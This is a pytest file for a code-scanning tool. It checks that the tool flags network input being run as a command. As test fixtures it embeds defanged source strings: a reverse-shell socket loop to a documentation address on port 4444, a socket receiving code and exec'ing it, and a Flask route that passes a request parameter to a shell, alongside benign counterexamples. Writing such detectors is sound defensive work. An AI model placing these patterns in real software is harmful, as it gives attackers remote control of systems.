"""Commands from the network: what a socket receives, or a web request's parameter, run as a command or as
code is remote control (``code.reverse_shell``, ``flow:remote_command``); a pipe between a program's own
processes, a request's data used for anything else, or a fixed command is not.

Every package is defanged source built in memory (TEST-NET addresses) and nothing runs."""

from __future__ import annotations

import pytest

from featurepkgs import assert_flow_at
from featurepkgs import module_features as features
from vetpy.features.source.remote import REMOTE_TOKEN

REMOTE = {
    "a socket loop runs what it receives": (
        "import socket, subprocess\ndef loop():\n    s = socket.socket()\n"
        "    s.connect(('198.51.100.7', 4444))\n"
        "    while True:\n        cmd = s.recv(1024).decode()\n"
        "        s.send(subprocess.check_output(cmd, shell=True))\n",
        7,
    ),
    "received code is exec'd": (
        "import socket\ndef loop(host):\n    conn = socket.create_connection((host, 9000))\n"
        "    exec(conn.recv(65536))\n",
        4,
    ),
    "a web route runs a request parameter in a shell": (
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\n"
        "def x():\n    return subprocess.check_output(request.args.get('q'), shell=True)\n",
        6,
    ),
}


@pytest.mark.parametrize("name", sorted(REMOTE))
def test_remote_command_is_seen_at_its_line(name: str) -> None:
    code, line = REMOTE[name]
    assert_flow_at(code, REMOTE_TOKEN, "code.reverse_shell", "received from the network", line)


PLAIN = {
    "a pipe between own processes": (
        "import subprocess\nfrom multiprocessing import Pipe\ndef worker(conn):\n    cmd = conn.recv()\n"
        "    subprocess.run(cmd)\n"
    ),
    "a request's data stored, a fixed command run": (
        "import subprocess\nfrom flask import request\ndef save():\n    name = request.form['name']\n"
        "    subprocess.run(['git', 'status'])\n    return name\n"
    ),
    "received data written to a file": (
        "import socket\ndef fetch(host):\n    s = socket.create_connection((host, 80))\n"
        "    data = s.recv(4096)\n"
        "    open('out.bin', 'wb').write(data)\n"
    ),
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_plain_network_input_is_not_a_remote_command(name: str) -> None:
    assert REMOTE_TOKEN not in features(PLAIN[name]).code_text.split(), name
